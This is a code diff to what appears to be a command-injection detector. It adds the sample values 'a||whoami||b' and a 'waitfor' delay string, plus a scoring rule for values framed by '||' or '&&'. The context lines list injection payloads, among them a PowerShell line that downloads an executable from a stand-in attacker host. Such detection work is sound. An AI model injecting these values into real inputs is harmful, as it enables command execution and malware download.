@@ -33,6 +33,8 @@ export const chainedCommand: ValueRule = {
     "x') ; whoami ; (",
     "') ; id ; ('",
     'a;id;.png',
+    'a||whoami||b',
+    '& waitfor /t 10 x',
     'x & powershell iwr http://evil.example.com/a -OutFile a.exe',
     '; openssl s_client -connect 192.0.2.9:443',
     '; grep one two three four five six seven eight > /tmp/x',
@@ -185,8 +187,18 @@ function aloneScore(text: string, command: Command, isValue: boolean, score: num
   if (command.hidden && isValue) return 92;
   const ends = endsText(text, command.end);
   if (ends && isValue) return score;
+  const isSure = command.fit === fit.sureAlone;
+  if (isSure && isValue && isFramed(text, command)) return 76;
   return ends || (command.hidden && isTight(text, command.head)) ? 55 : 40;
 }
+
+/** `a||whoami||b`, `a && whoami && b`: nothing but another word behind the second mark. */
+function isFramed(text: string, { head, end }: Command): boolean {
+  const isDouble = head.introducer === introducer.and || head.introducer === introducer.or;
+  return isDouble && frameEnd.test(text.slice(end, end + 24));
+}
+
+const frameEnd = /^ ?(?:\|\||&&) ?\w{1,12}$/;
 
 /** `x = a || id` */
 const assignment = /\s=\s/;
